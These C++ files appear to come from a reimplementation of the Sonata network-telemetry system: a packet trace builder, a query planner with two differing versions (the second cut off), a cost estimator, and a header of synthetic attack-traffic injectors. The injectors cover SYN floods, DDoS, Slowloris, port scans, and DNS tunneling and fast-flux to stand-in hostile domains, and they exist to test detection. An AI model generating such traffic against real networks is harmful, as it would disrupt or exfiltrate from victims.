TraceBuilder& TraceBuilder::add(const MaliciousDomainConfig& cfg) {
  inject_malicious_domain(packets_, cfg, rng_);
  return *this;
}

TraceBuilder& TraceBuilder::add_packets(std::vector<net::Packet> packets) {
  packets_.insert(packets_.end(), std::make_move_iterator(packets.begin()),
                  std::make_move_iterator(packets.end()));
  return *this;
}

std::vector<net::Packet> TraceBuilder::build() {
  std::stable_sort(packets_.begin(), packets_.end(),
                   [](const net::Packet& a, const net::Packet& b) { return a.ts < b.ts; });
  return std::move(packets_);
}

std::vector<std::span<const net::Packet>> split_windows(std::span<const net::Packet> trace,
                                                        util::Nanos window) {
  std::vector<std::span<const net::Packet>> out;
  std::size_t begin = 0;
  while (begin < trace.size()) {
    const std::uint64_t idx = util::window_index(trace[begin].ts, window);
    std::size_t end = begin;
    while (end < trace.size() && util::window_index(trace[end].ts, window) == idx) ++end;
    out.push_back(trace.subspan(begin, end - begin));
    begin = end;
  }
  return out;
}

}  // namespace sonata::trace
