// Attack traffic injectors — one per telemetry query of Table 3 (paper §6.1
// evaluates on CAIDA traces; our synthetic substitute injects ground-truth
// positives so detection results are checkable).
//
// Every injector appends packets to `out` (unsorted; TraceBuilder sorts) and
// is fully determined by its config plus the Rng.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "net/packet.h"
#include "util/rng.h"

namespace sonata::trace {

// 1. SYN flood: spoofed sources hammer one victim with TCP SYNs.
struct SynFloodConfig {
  std::uint32_t victim = 0;
  double start_sec = 5.0;
  double duration_sec = 10.0;
  double pps = 5000.0;
};
void inject_syn_flood(std::vector<net::Packet>& out, const SynFloodConfig& cfg, util::Rng& rng);

// 2. SSH brute force (distributed, per Javed & Paxson): many sources open
// short SSH connections with near-identical packet sizes to one victim.
struct SshBruteForceConfig {
  std::uint32_t victim = 0;
  double start_sec = 5.0;
  double duration_sec = 10.0;
  double attempts_per_sec = 120.0;
  std::size_t source_count = 600;  // brute-forcing botnet size
};
void inject_ssh_brute_force(std::vector<net::Packet>& out, const SshBruteForceConfig& cfg,
                            util::Rng& rng);

// 3. Superspreader: one host contacts many distinct destinations.
struct SuperspreaderConfig {
  std::uint32_t spreader = 0;
  double start_sec = 5.0;
  double duration_sec = 10.0;
  std::size_t distinct_destinations = 4000;
};
void inject_superspreader(std::vector<net::Packet>& out, const SuperspreaderConfig& cfg,
                          util::Rng& rng);

// 4. Port scan: one scanner probes many ports on one target.
struct PortScanConfig {
  std::uint32_t scanner = 0;
  std::uint32_t target = 0;
  double start_sec = 5.0;
  double duration_sec = 10.0;
  std::uint16_t first_port = 1;
  std::uint16_t last_port = 4096;
};
void inject_port_scan(std::vector<net::Packet>& out, const PortScanConfig& cfg, util::Rng& rng);

// 5. DDoS: many distinct sources target one victim.
struct DdosConfig {
  std::uint32_t victim = 0;
  double start_sec = 5.0;
  double duration_sec = 10.0;
  std::size_t distinct_sources = 5000;
  double pps = 8000.0;
};
void inject_ddos(std::vector<net::Packet>& out, const DdosConfig& cfg, util::Rng& rng);

// 6. Incomplete TCP flows: SYNs that never finish (victim of connection
// exhaustion; distinct from a raw SYN flood by completing the handshake).
struct IncompleteFlowsConfig {
  std::uint32_t attacker = 0;
  std::uint32_t victim = 0;
  double start_sec = 5.0;
  double duration_sec = 10.0;
  double conns_per_sec = 400.0;
};
void inject_incomplete_flows(std::vector<net::Packet>& out, const IncompleteFlowsConfig& cfg,
                             util::Rng& rng);

// 7. Slowloris: a handful of sources keep very many open connections to one
// victim, each transferring almost nothing.
struct SlowlorisConfig {
  std::uint32_t victim = 0;
  double start_sec = 5.0;
  double duration_sec = 10.0;
  std::size_t attacker_count = 4;
  std::size_t conns_per_attacker = 400;
};
void inject_slowloris(std::vector<net::Packet>& out, const SlowlorisConfig& cfg, util::Rng& rng);

// 8. Telnet "zorro" malware spread: many similar-sized telnet packets to a
// victim, then shell commands containing the keyword (paper Query 3).
struct ZorroConfig {
  std::uint32_t attacker = 0;
  std::uint32_t victim = 0;
  double start_sec = 10.0;
  double probe_duration_sec = 8.0;
  double probe_pps = 200.0;
  std::uint16_t probe_payload_bytes = 64;  // "similar-sized" probes
  double shell_at_sec = 20.0;              // when the keyword packets appear
  int shell_packets = 5;
};
void inject_zorro(std::vector<net::Packet>& out, const ZorroConfig& cfg, util::Rng& rng);

// 9. DNS tunneling: one client exfiltrates via many long unique subdomains
// of one parent domain.
struct DnsTunnelConfig {
  std::uint32_t client = 0;
  std::uint32_t resolver = 0;
  std::string parent_domain = "tun.evil-exfil.com";
  double start_sec = 5.0;
  double duration_sec = 10.0;
  double queries_per_sec = 250.0;
};
void inject_dns_tunnel(std::vector<net::Packet>& out, const DnsTunnelConfig& cfg, util::Rng& rng);

// 10. DNS reflection/amplification: many resolvers send large ANY responses
// to a victim that never asked.
struct DnsReflectionConfig {
  std::uint32_t victim = 0;
  double start_sec = 5.0;
  double duration_sec = 10.0;
  std::size_t reflector_count = 800;
  double pps = 4000.0;
  std::uint16_t amplification_bytes = 900;
};
void inject_dns_reflection(std::vector<net::Packet>& out, const DnsReflectionConfig& cfg,
                           util::Rng& rng);

// 11. Malicious domain: a single name resolving to many distinct addresses
// over time (fast flux) — exercises dns.rr.name as a refinement key.
struct MaliciousDomainConfig {
  std::string domain = "cc.bad-flux.net";
  std::uint32_t resolver = 0;
  double start_sec = 5.0;
  double duration_sec = 10.0;
  std::size_t distinct_resolutions = 600;
  std::size_t client_count = 50;
};
void inject_malicious_domain(std::vector<net::Packet>& out, const MaliciousDomainConfig& cfg,
                             util::Rng& rng);

}  // namespace sonata::trace
