// Training-data cost estimation (paper §3.3 "Input" and §4.2, Figure 5).
//
// The planner replays historical windows through each query to estimate,
// per (source, refinement transition r_prev -> r, partition point k):
//   N_{q,t}: packet tuples the switch would send to the stream processor,
//   keys:    distinct keys per stateful operator (register sizing), and
// per (source, level): the relaxed threshold Th_r (the minimum coarse
// aggregate among keys that satisfy the original query — keeping every
// training positive, paper §4.1).
//
// Like Figure 5's exposition, transition costs use same-window winner sets
// (the paper assumes counts are stable across consecutive windows).
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <span>
#include <vector>

#include "planner/refine.h"
#include "query/query.h"

namespace sonata::planner {

struct TransitionCost {
  // n_after[k]: tuples to the SP per window when ops[0..k) of the (refined)
  // chain run on the switch. Index 0 = every packet of the window. Valid
  // for k up to the semantic max prefix; entries beyond are zero-filled.
  std::vector<std::uint64_t> n_after;
  // Median distinct keys per stateful op index (register sizing input).
  std::map<std::size_t, std::uint64_t> stateful_keys;
};

// One training window's packets, pre-materialized to source tuples.
using TupleWindow = std::vector<query::Tuple>;

class CostEstimator {
 public:
  // `q` must be validated and outlive the estimator; `windows` are the
  // training windows (shared across queries); `ip_levels`/`dns_levels` are
  // the candidate refinement levels (finest appended if missing).
  // `relax_margin` scales the training-derived relaxed thresholds (paper
  // §4.1): 1.0 keeps exactly every training positive; smaller values leave
  // headroom for traffic variance between training and live windows.
  CostEstimator(const query::Query& q, const std::vector<TupleWindow>& windows,
                std::vector<int> ip_levels, std::vector<int> dns_levels,
                double relax_margin = 0.5);

  // Dynamic refinement applies: the operator declared the query refinable
  // and every source traces a hierarchical key of one common kind.
  [[nodiscard]] bool refinable() const noexcept { return refinable_; }
  [[nodiscard]] const std::vector<RefinementKey>& keys() const noexcept { return keys_; }

  // Candidate levels, ascending, finest last. Single-element (finest) when
  // not refinable.
  [[nodiscard]] const std::vector<int>& levels() const noexcept { return levels_; }
  [[nodiscard]] int finest_level() const noexcept { return levels_.back(); }

  // Relaxed threshold for `source`'s trailing filter at `level`; nullopt at
  // the finest level or when the source has no trailing threshold filter.
  [[nodiscard]] std::optional<std::uint64_t> relaxed_threshold(int source, int level) const;

  // Winner keys at `level` for window `w`: the output keys of the winner
  // query (stateful sub-queries with relaxed thresholds; raw sources and
  // post-join operators excluded — see make_winner_query). These seed the
  // next refinement level's dynamic filters.

  // Cost of running `level` after `prev` (kNoPrevLevel at a chain head).
  const TransitionCost& transition(int source, int prev, int level);

  const std::vector<query::Tuple>& winners(int level, std::size_t w);

  [[nodiscard]] std::size_t window_count() const noexcept { return windows_->size(); }
  [[nodiscard]] const query::Query& base_query() const noexcept { return *query_; }

 private:
  void compute_relaxed_thresholds();
  const query::Query& winner_query(int level);
  // Satisfying finest-level key values per training window (key_column of
  // the original query's output).
  std::vector<std::vector<query::Value>> satisfying_keys();

  const query::Query* query_;
  const std::vector<TupleWindow>* windows_;
  double relax_margin_ = 0.5;
  bool refinable_ = false;
  std::vector<RefinementKey> keys_;
  std::vector<int> levels_;

  // relaxed_[source][level]
  std::vector<std::map<int, std::uint64_t>> relaxed_;
  std::optional<std::vector<std::vector<query::Value>>> satisfying_cache_;
  std::map<int, query::Query> winner_queries_;
  // winners_[level][window]
  std::map<int, std::vector<std::vector<query::Tuple>>> winners_;
  // costs_[(source, prev, level)]
  std::map<std::tuple<int, int, int>, TransitionCost> costs_;
};

// Instrumented single-window chain run (exposed for tests).
struct InstrumentedResult {
  std::vector<std::uint64_t> n_after;                 // size ops+1
  std::map<std::size_t, std::uint64_t> stateful_keys; // distinct keys per stateful op
};
InstrumentedResult run_instrumented(
    const query::StreamNode& node, std::span<const query::Tuple> tuples,
    const std::vector<query::Tuple>* front_filter_entries);

}  // namespace sonata::planner
