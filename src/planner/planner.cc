#include "planner/planner.h"

#include <algorithm>
#include <cassert>
#include <deque>

#include "planner/install.h"
#include "util/log.h"
#include "util/stats.h"

namespace sonata::planner {

using pisa::ProgramResources;
using query::Query;

std::string_view to_string(PlanMode mode) noexcept {
  switch (mode) {
    case PlanMode::kSonata: return "Sonata";
    case PlanMode::kAllSP: return "All-SP";
    case PlanMode::kFilterDP: return "Filter-DP";
    case PlanMode::kMaxDP: return "Max-DP";
    case PlanMode::kFixRef: return "Fix-REF";
  }
  return "?";
}

std::vector<TupleWindow> materialize_windows(std::span<const net::Packet> packets,
                                             util::Nanos window) {
  std::vector<TupleWindow> out;
  std::size_t begin = 0;
  while (begin < packets.size()) {
    const std::uint64_t idx = util::window_index(packets[begin].ts, window);
    TupleWindow tuples;
    std::size_t end = begin;
    while (end < packets.size() && util::window_index(packets[end].ts, window) == idx) ++end;
    tuples.reserve(end - begin);
    for (std::size_t i = begin; i < end; ++i) {
      tuples.push_back(query::materialize_tuple(packets[i]));
    }
    out.push_back(std::move(tuples));
    begin = end;
  }
  return out;
}

namespace {

// Working context for one joint plan: branch-and-bound over per-query
// refinement chains, with the shared ChainInstaller doing each greedy
// install (so the incremental planner reuses identical install state).
class PlanBuilder {
 public:
  PlanBuilder(const PlannerConfig& cfg, std::span<const Query* const> queries,
              std::span<ChainInstaller* const> installers, std::uint64_t window_packets)
      : cfg_(cfg), queries_(queries), installers_(installers), window_packets_(window_packets) {}

  Plan run() {
    // Candidate chains per query.
    std::vector<std::vector<std::vector<int>>> candidates(queries_.size());
    for (std::size_t qi = 0; qi < queries_.size(); ++qi) {
      candidates[qi] = installers_[qi]->chains();
    }

    // Optimistic (contention-free) cost per candidate, for ordering and
    // for the admissible bound.
    std::vector<std::vector<std::uint64_t>> optimistic(queries_.size());
    std::vector<std::uint64_t> min_cost(queries_.size());
    for (std::size_t qi = 0; qi < queries_.size(); ++qi) {
      std::uint64_t best = ~std::uint64_t{0};
      for (const auto& chain : candidates[qi]) {
        const std::uint64_t c = installers_[qi]->optimistic_cost(chain);
        optimistic[qi].push_back(c);
        best = std::min(best, c);
      }
      min_cost[qi] = best;
      // Sort candidates by optimistic cost (stable: shorter chains first on
      // ties, from enumerate_chains' ordering).
      std::vector<std::size_t> order(candidates[qi].size());
      for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
      std::stable_sort(order.begin(), order.end(), [&](std::size_t a, std::size_t b) {
        return optimistic[qi][a] < optimistic[qi][b];
      });
      std::vector<std::vector<int>> sorted_chains;
      std::vector<std::uint64_t> sorted_costs;
      for (std::size_t i : order) {
        sorted_chains.push_back(std::move(candidates[qi][i]));
        sorted_costs.push_back(optimistic[qi][i]);
      }
      candidates[qi] = std::move(sorted_chains);
      optimistic[qi] = std::move(sorted_costs);
    }
    // Suffix sums of per-query minima for the bound.
    std::vector<std::uint64_t> suffix_min(queries_.size() + 1, 0);
    for (std::size_t qi = queries_.size(); qi-- > 0;) {
      suffix_min[qi] = suffix_min[qi + 1] + min_cost[qi];
    }

    // Branch and bound.
    best_objective_ = ~std::uint64_t{0};
    std::vector<ProgramResources> res;
    std::vector<PlannedQuery> chosen;
    nodes_ = 0;
    dfs(0, candidates, suffix_min, res, chosen, 0, false);
    assert(!best_.empty() || queries_.empty());

    // The all-raw plan (mirror every packet once, all queries at the SP) is
    // always feasible and costs one window of packets. The per-pipeline
    // greedy can be myopic — each query individually prefers streaming a
    // filtered prefix over starting the shared raw mirror — so cap the
    // result with this fallback, as the ILP would (All-SP mode *is* this
    // plan, so it is unaffected).
    if (cfg_.mode != PlanMode::kAllSP && window_packets_ < best_objective_) {
      res.clear();
      std::vector<PlannedQuery> fallback;
      std::uint64_t n = 0;
      bool raw = false;
      for (std::size_t qi = 0; qi < queries_.size(); ++qi) {
        auto inst = installers_[qi]->install({installers_[qi]->estimator().finest_level()}, res,
                                            raw, /*force_all_sp=*/true);
        assert(inst.has_value());
        n += inst->n;
        raw = raw || inst->raw;
        fallback.push_back(std::move(inst->pq));
      }
      best_objective_ = n + (raw ? window_packets_ : 0);
      best_ = std::move(fallback);
      best_resources_ = std::move(res);
      best_raw_ = raw;
      SONATA_INFO("planner", "greedy plan beaten by the all-raw fallback; using All-SP layout");
    }

    return assemble_plan(cfg_, std::move(best_), std::move(best_resources_), best_raw_,
                         window_packets_, best_objective_);
  }

 private:
  void dfs(std::size_t qi, const std::vector<std::vector<std::vector<int>>>& candidates,
           const std::vector<std::uint64_t>& suffix_min, std::vector<ProgramResources>& res,
           std::vector<PlannedQuery>& chosen, std::uint64_t n, bool raw) {
    if (nodes_ > cfg_.search_node_cap && !best_.empty()) return;
    ++nodes_;
    const std::uint64_t objective_so_far = n + (raw ? window_packets_ : 0);
    if (objective_so_far + suffix_min[qi] >= best_objective_) return;
    if (qi == queries_.size()) {
      best_objective_ = objective_so_far;
      best_ = chosen;
      best_resources_ = res;
      best_raw_ = raw;
      return;
    }
    for (const auto& chain : candidates[qi]) {
      const std::size_t res_mark = res.size();
      auto inst = installers_[qi]->install(chain, res, raw, /*force_all_sp=*/false);
      assert(inst.has_value());  // unlimited installs always place (partition 0 fits)
      chosen.push_back(std::move(inst->pq));
      dfs(qi + 1, candidates, suffix_min, res, chosen, n + inst->n, raw || inst->raw);
      chosen.pop_back();
      res.resize(res_mark);
      if (nodes_ > cfg_.search_node_cap && !best_.empty()) return;
    }
  }

  const PlannerConfig& cfg_;
  std::span<const Query* const> queries_;
  std::span<ChainInstaller* const> installers_;
  std::uint64_t window_packets_ = 0;

  std::uint64_t best_objective_ = ~std::uint64_t{0};
  std::vector<PlannedQuery> best_;
  std::vector<ProgramResources> best_resources_;
  bool best_raw_ = false;
  std::uint64_t nodes_ = 0;
};

}  // namespace

std::string Plan::summary() const {
  std::string out = "plan[" + std::string(to_string(mode)) + "] v" + std::to_string(version) +
                    " est_tuples/window=" + std::to_string(est_total_tuples) +
                    (raw_mirror ? " (+raw mirror)" : "") + "\n";
  for (const auto& pq : queries) {
    out += "  " + pq.base->name() + ": chain=[";
    for (std::size_t i = 0; i < pq.chain.size(); ++i) {
      if (i) out += ",";
      out += std::to_string(pq.chain[i]);
    }
    out += "] est=" + std::to_string(pq.est_tuples) + "\n";
    for (const auto& p : pq.pipelines) {
      out += "    s" + std::to_string(p.source_index) + " L" +
             (p.prev_level == kNoPrevLevel ? std::string("*") : std::to_string(p.prev_level)) +
             "->" + std::to_string(p.level) + " partition=" + std::to_string(p.partition) + "/" +
             std::to_string(p.node->ops.size()) + " est=" + std::to_string(p.est_tuples) + "\n";
    }
  }
  return out;
}

std::uint64_t median_window_packets(const std::vector<TupleWindow>& windows) {
  std::vector<std::uint64_t> sizes;
  sizes.reserve(windows.size());
  for (const auto& w : windows) sizes.push_back(w.size());
  return util::median_u64(sizes);
}

Plan plan_joint(const PlannerConfig& cfg, std::span<const query::Query* const> queries,
                std::span<ChainInstaller* const> installers, std::uint64_t window_packets) {
  assert(queries.size() == installers.size());
  PlanBuilder builder(cfg, queries, installers, window_packets);
  return builder.run();
}

Plan Planner::plan(const std::vector<Query>& queries, std::span<const net::Packet> training) {
  const auto windows = materialize_windows(training, cfg_.window);
  return plan_windows(queries, windows);
}

EstimatorPool::EstimatorPool(const std::vector<Query>& queries,
                             const std::vector<TupleWindow>& windows,
                             std::vector<int> ip_levels, std::vector<int> dns_levels,
                             double relax_margin) {
  for (const auto& q : queries) {
    estimators_.emplace_back(q, windows, ip_levels, dns_levels, relax_margin);
  }
}

Plan Planner::plan_windows(const std::vector<Query>& queries,
                           const std::vector<TupleWindow>& windows, EstimatorPool* pool) {
  SONATA_INFO("planner", "planning %zu queries over %zu training windows (mode=%s)",
              queries.size(), windows.size(), std::string(to_string(cfg_.mode)).c_str());
  const std::uint64_t window_packets = median_window_packets(windows);
  std::deque<ChainInstaller> owned;
  std::vector<ChainInstaller*> installers;
  std::vector<const Query*> qptrs;
  for (std::size_t qi = 0; qi < queries.size(); ++qi) {
    if (pool) {
      owned.emplace_back(cfg_, queries[qi], &pool->at(qi), window_packets);
    } else {
      owned.emplace_back(cfg_, queries[qi], windows, window_packets);
    }
    installers.push_back(&owned.back());
    qptrs.push_back(&queries[qi]);
  }
  Plan plan = plan_joint(cfg_, qptrs, installers, window_packets);
  SONATA_INFO("planner", "%s", plan.summary().c_str());
  return plan;
}

}  // namespace sonata::planner
