#include "planner/planner.h"

#include <algorithm>
#include <bit>
#include <cassert>
#include <deque>
#include <functional>

#include "pisa/compile.h"
#include "query/field.h"
#include "util/log.h"
#include "util/rng.h"
#include "util/stats.h"

namespace sonata::planner {

using pisa::ProgramResources;
using pisa::RegisterSizing;
using query::Query;
using query::StreamNode;
using query::Tuple;

std::string_view to_string(PlanMode mode) noexcept {
  switch (mode) {
    case PlanMode::kSonata: return "Sonata";
    case PlanMode::kAllSP: return "All-SP";
    case PlanMode::kFilterDP: return "Filter-DP";
    case PlanMode::kMaxDP: return "Max-DP";
    case PlanMode::kFixRef: return "Fix-REF";
  }
  return "?";
}

std::vector<TupleWindow> materialize_windows(std::span<const net::Packet> packets,
                                             util::Nanos window) {
  std::vector<TupleWindow> out;
  std::size_t begin = 0;
  while (begin < packets.size()) {
    const std::uint64_t idx = util::window_index(packets[begin].ts, window);
    TupleWindow tuples;
    std::size_t end = begin;
    while (end < packets.size() && util::window_index(packets[end].ts, window) == idx) ++end;
    tuples.reserve(end - begin);
    for (std::size_t i = begin; i < end; ++i) {
      tuples.push_back(query::materialize_tuple(packets[i]));
    }
    out.push_back(std::move(tuples));
    begin = end;
  }
  return out;
}

namespace {

std::size_t pow2_at_least(std::size_t n) { return std::bit_ceil(std::max<std::size_t>(n, 1)); }

// Enumerate increasing chains over `levels` (finest = levels.back()), each
// ending at the finest level, of length <= max_len.
std::vector<std::vector<int>> enumerate_chains(const std::vector<int>& levels, int max_len) {
  std::vector<std::vector<int>> chains;
  const std::size_t coarse = levels.size() - 1;  // all but finest
  const std::size_t subsets = std::size_t{1} << coarse;
  for (std::size_t mask = 0; mask < subsets; ++mask) {
    std::vector<int> chain;
    for (std::size_t i = 0; i < coarse; ++i) {
      if (mask & (std::size_t{1} << i)) chain.push_back(levels[i]);
    }
    chain.push_back(levels.back());
    if (static_cast<int>(chain.size()) <= max_len) chains.push_back(std::move(chain));
  }
  // Prefer shorter chains at equal cost (less detection delay).
  std::sort(chains.begin(), chains.end(),
            [](const auto& a, const auto& b) { return a.size() < b.size(); });
  return chains;
}

std::string filter_table_name(query::QueryId qid, int source, int level) {
  return "q" + std::to_string(qid) + ".s" + std::to_string(source) + ".L" +
         std::to_string(level) + ".ref";
}

// Working context for one plan() invocation.
class PlanBuilder {
 public:
  PlanBuilder(const PlannerConfig& cfg, const std::vector<Query>& queries,
              const std::vector<TupleWindow>& windows, EstimatorPool* pool)
      : cfg_(cfg), queries_(queries), windows_(windows), pool_(pool) {
    std::vector<std::uint64_t> sizes;
    sizes.reserve(windows.size());
    for (const auto& w : windows) sizes.push_back(w.size());
    window_packets_ = util::median_u64(sizes);
    if (!pool_) {
      for (const auto& q : queries) {
        owned_.emplace_back(q, windows, cfg.ip_levels, cfg.dns_levels, cfg.relax_margin);
      }
    }
  }

  CostEstimator& estimator(std::size_t qi) { return pool_ ? pool_->at(qi) : owned_.at(qi); }

  Plan run() {
    // Candidate chains per query.
    std::vector<std::vector<std::vector<int>>> candidates(queries_.size());
    for (std::size_t qi = 0; qi < queries_.size(); ++qi) {
      candidates[qi] = chains_for_query(qi);
    }

    // Optimistic (contention-free) cost per candidate, for ordering and
    // for the admissible bound.
    std::vector<std::vector<std::uint64_t>> optimistic(queries_.size());
    std::vector<std::uint64_t> min_cost(queries_.size());
    for (std::size_t qi = 0; qi < queries_.size(); ++qi) {
      std::uint64_t best = ~std::uint64_t{0};
      for (const auto& chain : candidates[qi]) {
        const std::uint64_t c = optimistic_cost(qi, chain);
        optimistic[qi].push_back(c);
        best = std::min(best, c);
      }
      min_cost[qi] = best;
      // Sort candidates by optimistic cost (stable: shorter chains first on
      // ties, from enumerate_chains' ordering).
      std::vector<std::size_t> order(candidates[qi].size());
      for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
      std::stable_sort(order.begin(), order.end(), [&](std::size_t a, std::size_t b) {
        return optimistic[qi][a] < optimistic[qi][b];
      });
      std::vector<std::vector<int>> sorted_chains;
      std::vector<std::uint64_t> sorted_costs;
      for (std::size_t i : order) {
        sorted_chains.push_back(std::move(candidates[qi][i]));
        sorted_costs.push_back(optimistic[qi][i]);
      }
      candidates[qi] = std::move(sorted_chains);
      optimistic[qi] = std::move(sorted_costs);
    }
    // Suffix sums of per-query minima for the bound.
    std::vector<std::uint64_t> suffix_min(queries_.size() + 1, 0);
    for (std::size_t qi = queries_.size(); qi-- > 0;) {
      suffix_min[qi] = suffix_min[qi + 1] + min_cost[qi];
    }

    // Branch and bound.
    best_objective_ = ~std::uint64_t{0};
    std::vector<ProgramResources> res;
    std::vector<PlannedQuery> chosen;
    nodes_ = 0;
    dfs(0, candidates, suffix_min, res, chosen, 0, false);
    assert(!best_.empty() || queries_.empty());

    // The all-raw plan (mirror every packet once, all queries at the SP) is
    // always feasible and costs one window of packets. The per-pipeline
    // greedy can be myopic — each query individually prefers streaming a
    // filtered prefix over starting the shared raw mirror — so cap the
    // result with this fallback, as the ILP would (All-SP mode *is* this
    // plan, so it is unaffected).
    if (cfg_.mode != PlanMode::kAllSP && window_packets_ < best_objective_) {
      force_all_sp_ = true;
      res.clear();
      chosen.clear();
      std::uint64_t n = 0;
      bool raw = false;
      for (std::size_t qi = 0; qi < queries_.size(); ++qi) {
        Installed inst = install_chain(qi, {estimator(qi).finest_level()}, res, raw);
        n += inst.n;
        raw = raw || inst.raw;
        chosen.push_back(std::move(inst.pq));
      }
      force_all_sp_ = false;
      best_objective_ = n + (raw ? window_packets_ : 0);
      best_ = std::move(chosen);
      best_resources_ = std::move(res);
      best_raw_ = raw;
      SONATA_INFO("planner", "greedy plan beaten by the all-raw fallback; using All-SP layout");
    }

    return assemble();
  }

 private:
  std::vector<std::vector<int>> chains_for_query(std::size_t qi) {
    CostEstimator& est = estimator(qi);
    if (!est.refinable()) return {{est.finest_level()}};
    switch (cfg_.mode) {
      case PlanMode::kAllSP:
      case PlanMode::kFilterDP:
      case PlanMode::kMaxDP:
        return {{est.finest_level()}};
      case PlanMode::kFixRef:
        return {est.levels()};
      case PlanMode::kSonata:
        return enumerate_chains(est.levels(), cfg_.max_delay_windows);
    }
    return {{est.finest_level()}};
  }

  // The cheapest possible N for a chain assuming maximal partitions fit.
  std::uint64_t optimistic_cost(std::size_t qi, const std::vector<int>& chain) {
    CostEstimator& est = estimator(qi);
    const auto sources = queries_[qi].sources();
    std::uint64_t total = 0;
    for (std::size_t s = 0; s < sources.size(); ++s) {
      const bool stateful_src = has_stateful_op(*sources[s]);
      int prev = kNoPrevLevel;
      for (const int level : chain) {
        // Raw sources (no stateful ops) execute at the finest level only
        // (winner-query semantics; see make_winner_query).
        if (!stateful_src && level != chain.back()) {
          prev = level;
          continue;
        }
        const TransitionCost& cost = est.transition(static_cast<int>(s), prev, level);
        const std::size_t max_p = max_partition(qi, static_cast<int>(s), prev, level);
        total += max_p > 0 ? cost.n_after[max_p] : 0;
        prev = level;
      }
    }
    return total;
  }

  // Max semantic partition for a transition's refined node (cached).
  std::size_t max_partition(std::size_t qi, int source, int prev, int level) {
    const auto key = std::make_tuple(qi, source, prev, level);
    auto it = max_partition_cache_.find(key);
    if (it != max_partition_cache_.end()) return it->second;
    const auto node = refined_node(qi, source, prev, level);
    const std::size_t p = pisa::max_switch_prefix(*node);
    max_partition_cache_.emplace(key, p);
    return p;
  }

  std::shared_ptr<StreamNode> refined_node(std::size_t qi, int source, int prev, int level) {
    const auto key = std::make_tuple(qi, source, prev, level);
    auto it = node_cache_.find(key);
    if (it != node_cache_.end()) return it->second;
    CostEstimator& est = estimator(qi);
    const auto sources = queries_[qi].sources();
    std::shared_ptr<StreamNode> node;
    if (est.refinable()) {
      RefineOptions opts;
      opts.level = level;
      opts.prev_level = prev;
      opts.filter_table_name = filter_table_name(queries_[qi].id(), source, level);
      opts.relaxed_threshold = est.relaxed_threshold(source, level);
      node = make_refined_node(*sources.at(static_cast<std::size_t>(source)),
                               est.keys().at(static_cast<std::size_t>(source)), opts);
    } else {
      // Unrefined: share a validated copy of the original source chain.
      node = std::make_shared<StreamNode>(*sources.at(static_cast<std::size_t>(source)));
    }
    node_cache_.emplace(key, node);
    return node;
  }

  // Partition choices to try, best (deepest) first, honoring mode limits.
  std::vector<std::size_t> partition_choices(const StreamNode& node, std::size_t max_p) const {
    if (force_all_sp_) return {0};
    switch (cfg_.mode) {
      case PlanMode::kAllSP:
        return {0};
      case PlanMode::kFilterDP: {
        // Longest prefix of filter/filter_in operators only.
        std::size_t p = 0;
        while (p < max_p && (node.ops[p].kind == query::OpKind::kFilter ||
                             node.ops[p].kind == query::OpKind::kFilterIn)) {
          ++p;
        }
        std::vector<std::size_t> out;
        for (std::size_t k = p + 1; k-- > 0;) out.push_back(k);
        return out;
      }
      default: {
        std::vector<std::size_t> out;
        for (std::size_t k = max_p + 1; k-- > 0;) out.push_back(k);
        return out;
      }
    }
  }

  // Expected number of keys (out of `k` random keys) that fail to find a
  // slot in a d-deep chain of n-entry registers — the collision-overflow
  // model used when a register must be sized below the planner's target
  // (paper §3.3 "Monitoring traffic dynamics": n and d are chosen to keep
  // collision rates low; overflow packets are corrected at the SP and
  // therefore priced into the objective). Monte-Carlo, memoized.
  std::uint64_t estimate_overflow_keys(std::uint64_t k, std::size_t n, int d) {
    if (k == 0) return 0;
    const auto cache_key = std::make_tuple(k / 512, n, d);
    const auto it = overflow_cache_.find(cache_key);
    if (it != overflow_cache_.end()) return it->second;
    const util::HashFamily hashes(static_cast<std::size_t>(d));
    std::vector<std::vector<bool>> occupied(static_cast<std::size_t>(d),
                                            std::vector<bool>(n, false));
    util::Rng rng(0xc0111de + k);
    std::uint64_t overflowed = 0;
    for (std::uint64_t i = 0; i < k; ++i) {
      const std::uint64_t key = rng();
      bool stored = false;
      for (std::size_t di = 0; di < occupied.size() && !stored; ++di) {
        auto slot = occupied[di].begin() + static_cast<std::ptrdiff_t>(hashes.index(di, key, n));
        // Distinct keys only collide with *other* keys here (random keys
        // are unique w.h.p.), matching the exact-key-store semantics.
        if (!*slot) {
          *slot = true;
          stored = true;
        }
      }
      overflowed += stored ? 0 : 1;
    }
    overflow_cache_.emplace(cache_key, overflowed);
    return overflowed;
  }

  // Install one query's chain on top of `res`; returns realized pipelines
  // or nullopt if even partition-0 fallback fails (cannot happen: empty
  // resources always fit).
  struct Installed {
    PlannedQuery pq;
    std::uint64_t n = 0;
    bool raw = false;
  };
  Installed install_chain(std::size_t qi, const std::vector<int>& chain,
                          std::vector<ProgramResources>& res, bool raw_already) {
    raw_active_ = raw_already;
    CostEstimator& est = estimator(qi);
    const Query& q = queries_[qi];
    const auto sources = q.sources();

    Installed inst;
    inst.pq.base = &q;
    inst.pq.refined = est.refinable() && chain.size() > 1;
    inst.pq.chain = chain;
    if (est.refinable()) inst.pq.keys = est.keys();

    for (std::size_t s = 0; s < sources.size(); ++s) {
      const bool stateful_src = has_stateful_op(*sources[s]);
      int prev = kNoPrevLevel;
      for (const int level : chain) {
        if (!stateful_src && level != chain.back()) {
          prev = level;  // raw sources join in at the finest level only
          continue;
        }
        const auto node = refined_node(qi, static_cast<int>(s), prev, level);
        const TransitionCost& cost = est.transition(static_cast<int>(s), prev, level);
        const std::size_t max_p = max_partition(qi, static_cast<int>(s), prev, level);

        PlannedPipeline pipeline;
        pipeline.qid = q.id();
        pipeline.source_index = static_cast<int>(s);
        pipeline.level = level;
        pipeline.prev_level = prev;
        pipeline.node = node;
        if (prev != kNoPrevLevel) {
          pipeline.filter_table = filter_table_name(q.id(), static_cast<int>(s), level);
        }

        // Register sizing for every stateful op in the (potential) prefix:
        // target headroom * training keys, capped by the per-register
        // memory limit. A capped register overflows some keys; those keys'
        // packets are priced into the partition cost below.
        std::map<std::size_t, RegisterSizing> sizing;
        std::map<std::size_t, std::uint64_t> overflow_extra;  // op -> extra N
        for (const auto& [op_idx, keys] : cost.stateful_keys) {
          const int entry_bits =
              pisa::stateful_key_bits(*node, op_idx) +
              (node->ops[op_idx].kind == query::OpKind::kDistinct ? 1 : 32);
          RegisterSizing rs;
          rs.depth = cfg_.register_depth;
